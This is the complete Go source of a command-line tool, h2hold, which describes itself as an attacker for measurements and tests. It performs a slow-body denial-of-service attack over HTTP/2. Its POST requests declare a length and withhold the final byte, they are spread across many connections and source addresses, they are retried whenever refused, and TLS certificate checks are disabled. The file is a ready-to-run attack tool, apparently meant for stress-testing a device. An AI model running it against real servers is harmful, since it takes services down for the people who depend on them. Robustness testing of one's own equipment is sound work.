// Command h2hold is an attacker for measurements and tests: over HTTP/2 it begins requests whose bodies never end, on
// many connections from several addresses, and begins others in place of those that are refused. It ends after a time
// and prints what it has done.
package main

import (
	"context"
	"crypto/tls"
	"flag"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

const retryPause = 100 * time.Millisecond

// attack is what the requests have in common.
type attack struct {
	url   string
	size  int          // bytes that each body is said to have; the last never comes
	begun atomic.Int64 // requests
	sent  atomic.Int64 // bytes of bodies
}

// body gives all but its last byte, and then nothing until the context ends.
type body struct {
	ctx    context.Context
	left   int
	attack *attack
}

func (b *body) Read(p []byte) (int, error) {
	if b.left == 0 {
		<-b.ctx.Done()
		return 0, b.ctx.Err()
	}
	n := min(len(p), b.left)
	b.left -= n
	b.attack.sent.Add(int64(n))
	return n, nil
}

func (b *body) Close() error { return nil }

func main() {
	var a attack
	flag.StringVar(&a.url, "url", "", "what the requests go to")
	flag.IntVar(&a.size, "size", 60_000, "bytes that each body is said to have, of which the last never comes")
	from := flag.String("from", "", "the addresses from which they come, with commas between")
	connections := flag.Int("connections", 30, "from each address")
	requests := flag.Int("requests", 100, "at once on each connection")
	duration := flag.Duration("for", 10*time.Second, "until it ends")
	flag.Parse()

	ctx, cancel := context.WithTimeout(context.Background(), *duration)
	defer cancel()
	var all sync.WaitGroup
	for _, address := range strings.Split(*from, ",") {
		for range *connections {
			client := &http.Client{Transport: transport(address)}
			for range *requests {
				all.Add(1)
				go func() {
					defer all.Done()
					a.holdUntil(ctx, client)
				}()
			}
		}
	}
	all.Wait()
	fmt.Printf("{\"begun\": %d, \"bytes\": %d}\n", a.begun.Load(), a.sent.Load())
}

// transport speaks HTTP/2 with anybody, from the address.
func transport(address string) *http.Transport {
	dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(address)}}
	return &http.Transport{
		DialContext:       dialer.DialContext,
		TLSClientConfig:   &tls.Config{InsecureSkipVerify: true}, // the board's certificate is its own
		ForceAttemptHTTP2: true,
		MaxConnsPerHost:   1,
	}
}

// holdUntil makes one request after the other, each until it is refused.
func (a *attack) holdUntil(ctx context.Context, client *http.Client) {
	for ctx.Err() == nil {
		a.hold(ctx, client)
		select {
		case <-ctx.Done():
		case <-time.After(retryPause):
		}
	}
}

func (a *attack) hold(ctx context.Context, client *http.Client) {
	unfinished := &body{ctx: ctx, left: a.size - 1, attack: a}
	request, err := http.NewRequestWithContext(ctx, http.MethodPost, a.url, unfinished)
	if err != nil {
		return
	}
	request.ContentLength = int64(a.size)
	request.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	a.begun.Add(1)
	if answer, err := client.Do(request); err == nil {
		answer.Body.Close()
	}
}
